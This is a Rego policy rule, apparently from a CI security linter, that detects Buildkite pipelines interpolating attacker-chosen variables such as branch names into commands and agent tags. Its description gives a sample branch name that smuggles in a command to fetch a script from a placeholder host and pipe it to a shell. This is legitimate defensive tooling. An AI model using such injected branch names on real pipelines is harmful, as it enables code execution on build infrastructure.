# METADATA
# title: Untrusted variable interpolated at pipeline upload
# description: |
#   A command or agent tag names a variable whose value a branch pusher or pull-request
#   author chooses (`$BUILDKITE_BRANCH`, `${BUILDKITE_MESSAGE}`) with a single `$`, so
#   pipeline upload pastes that text into the job as code. `buildkite-agent pipeline upload`
#   replaces `$VAR`, `${VAR}`, `${VAR:-x}` and `${VAR?}` in the whole pipeline before any
#   shell runs: in a command (or a plugin's command) a branch named `x";curl evil|sh;"`
#   runs, and quoting does not help. In agent tags it lets them pick the agents that run
#   the job. Not reported: `$$VAR` (the shell reads it at run time); a trigger step's
#   `build:` (`message`, `branch` … are data); labels; step `env` values (data the shell
#   does not parse; see `check_env`). A step that only runs on literally named branches
#   (`branches: main`) is still reported, as the pattern breaks once the filter changes;
#   see `skip_fixed_branch_steps`.
# related_resources:
#   - ref: https://buildkite.com/docs/pipelines/configure/environment-variables#runtime-variable-interpolation
#     description: Runtime variable interpolation and escaping with `$$`
#   - ref: https://buildkite.com/docs/agent/v3/cli-pipeline
#     description: "`buildkite-agent pipeline upload` and `--no-interpolation`"
# custom:
#   id: pipeline/untrusted_upload_interpolation
#   severity: high
#   area: 4
#   target: pipeline
#   remediation: >-
#     Escape the variable as `$$VAR` so the shell reads it when the job runs, and quote it
#     (`"$$BUILDKITE_BRANCH"`); or upload the pipeline with `--no-interpolation`. Never
#     choose agents from such a value.
#   config:
#     untrusted_variables:
#       default:
#         - BUILDKITE_BRANCH
#         - BUILDKITE_MESSAGE
#         - BUILDKITE_TAG
#         - BUILDKITE_PULL_REQUEST_BASE_BRANCH
#         - BUILDKITE_PULL_REQUEST_LABELS
#         - BUILDKITE_BUILD_AUTHOR
#         - BUILDKITE_BUILD_AUTHOR_EMAIL
#         - BUILDKITE_BUILD_CREATOR
#         - BUILDKITE_BUILD_CREATOR_EMAIL
#       description: >-
#         Variables whose value a pusher or pull-request author chooses: exact names, or
#         prefixes ending in `*`. `BUILDKITE_PULL_REQUEST_REPO` is left out by default (a
#         repository URL cannot hold shell syntax), as are commit SHAs, numbers and slugs.
#     skip_fixed_branch_steps:
#       default: false
#       description: >-
#         Do not report `$BUILDKITE_BRANCH` in steps that only run on literally named branches
#         (`branches: main`, `if: build.branch == "main"`), where its value is one of those names.
#     check_env:
#       default: false
#       description: Also report such variables in `env` values (pipeline and step), which become data, not code.
package pipeline.untrusted_upload_interpolation

import data.lib.findings
import data.lib.interpolation
import data.lib.pipeline
import data.lib.secrets

knobs := findings.knobs(rego.metadata.chain())

deny contains findings.finding(
	rego.metadata.chain(),
	sprintf(
		"`%s` in the %s of step `%s` is replaced at pipeline upload with text the branch pusher or pull-request author chooses, which then runs as shell code (quoting does not help); write `$$%s` and quote it (`\"$$%s\"`) so the shell reads it at run time",
		[ref.name, t.where, pipeline.step_name(t.step), ref.name, ref.name],
	),
	t.path,
	ref.line,
) if {
	some t in interpolation.code_texts
	interpolation.mentions(t.text, knobs.untrusted_variables)
	some ref in interpolation.references(t.text)
	interpolation.named(ref.name, knobs.untrusted_variables)
	not skipped_fixed_branch(ref.name, t.step)
}

skipped_fixed_branch(name, entry) if {
	knobs.skip_fixed_branch_steps
	fixed_branch(name, entry)
}

# fixed_branch: the step only exists on branches named literally (`branches: main release`,
# `if: build.branch == "main"`), so `$BUILDKITE_BRANCH` can only be one of those names.
fixed_branch("BUILDKITE_BRANCH", entry) if {
	is_string(entry.step.branches)
	names := [n | some n in split(entry.step.branches, " "); n != ""]
	count(names) > 0
	every name in names {
		regex.match(`^[A-Za-z0-9._/-]+$`, name)
	}
}

fixed_branch("BUILDKITE_BRANCH", entry) if {
	is_string(entry.step.if)
	regex.match(`^\s*build\.branch\s*==\s*(?:"[A-Za-z0-9._/-]+"|'[A-Za-z0-9._/-]+')\s*$`, entry.step.if)
}

deny contains findings.finding(
	rego.metadata.chain(),
	sprintf(
		"agent tag `%s` %sis set from `%s` at pipeline upload, so whoever names the branch or pull request picks the agents that run the job; select agents with fixed values",
		[t.tag, where(t), ref.name],
	),
	t.path,
	ref.line,
) if {
	some t in interpolation.agent_texts
	interpolation.mentions(t.text, knobs.untrusted_variables)
	some ref in interpolation.references(t.text)
	interpolation.named(ref.name, knobs.untrusted_variables)
}

deny contains findings.finding(
	rego.metadata.chain(),
	sprintf(
		"`%s` in %s is replaced at pipeline upload with text the branch pusher or pull-request author chooses; write `$$%s` so it is read at run time",
		[ref.name, e.where, ref.name],
	),
	e.path,
	ref.line,
) if {
	knobs.check_env
	some e in secrets.env_entries
	not startswith(e.where, "build env")
	is_string(e.value)
	interpolation.mentions(e.value, knobs.untrusted_variables)
	some ref in interpolation.references(e.value)
	interpolation.named(ref.name, knobs.untrusted_variables)
}

where(t) := "" if t.step == null

where(t) := sprintf("of step `%s` ", [pipeline.step_name(t.step)]) if t.step != null
